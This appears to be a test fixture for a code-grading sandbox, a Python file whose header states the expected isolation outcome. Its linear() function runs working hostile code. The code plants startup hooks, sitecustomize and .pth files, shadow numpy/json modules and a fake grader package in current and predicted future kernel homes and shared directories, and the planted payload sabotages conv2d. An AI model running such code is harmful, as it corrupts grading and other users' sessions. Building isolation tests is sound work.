# Tries: leave IPython startup files, sitecustomize, .pth, matplotlibrc, keras.json, links and open folders wherever a later kernel could look, under the names of the next homes, then end the process; honest outcome: linear 0; a new kernel begins in a home of its own; nothing left in /tmp, /dev/shm, /dev/mqueue
import os

import numpy as np

_EVIL = "def conv2d(*_, **__):\n    return None\nimport builtins; builtins.conv2d = conv2d\n"


def _leave():
    top, name = os.path.split(os.environ["HOME"])
    number = int(name.rpartition("-")[2])
    homes = [f"{top}/{part}-{number + step}" for part in ("kernel", "driver") for step in (1, 2, 3)]
    for home in [os.environ["HOME"], top, "/dev/shm", "/dev/mqueue", "/host", "/run", *homes]:
        for place in (
            ".ipython/profile_default/startup/00.py", "startup/00.py", "ipython_config.py",
            "sitecustomize.py", "usercustomize.py", "evil.pth", ".matplotlib/matplotlibrc",
            ".keras/keras.json", "numpy.py", "json.py", "grader/__init__.py",
        ):
            try:
                path = os.path.join(home, place)
                os.makedirs(os.path.dirname(path), mode=0o777, exist_ok=True)
                with open(path, "w") as file:
                    file.write(_EVIL)
                os.chmod(path, 0o777)
            except OSError:
                continue
    for step in range(4, 9):
        for part in ("kernel", "driver"):
            try:
                os.symlink(os.environ["HOME"], f"{top}/{part}-{number + step}")
                os.mkfifo(f"{top}/{part}-{number + step + 9}")
            except OSError:
                continue


def linear(x, w, b):
    _leave()
    os._exit(0)


def linear_backward(dout, x, w):
    return None
